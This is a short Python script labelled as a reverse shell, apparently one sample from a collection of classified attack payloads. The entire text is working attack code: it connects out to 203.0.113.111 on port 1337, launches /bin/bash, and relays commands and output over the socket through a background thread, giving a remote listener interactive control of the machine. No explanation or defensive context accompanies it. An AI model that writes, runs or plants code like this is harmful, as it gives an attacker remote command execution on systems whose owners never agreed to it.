# class: reverse shell; style: two threads between pipe and socket
import socket, subprocess, threading
c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
c.connect(("203.0.113.111", 1337))
p = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def down():
    while True:
        d = c.recv(1024)
        if not d: break
        p.stdin.write(d); p.stdin.flush()
threading.Thread(target=down, daemon=True).start()
while (b := p.stdout.read(1)): c.send(b)
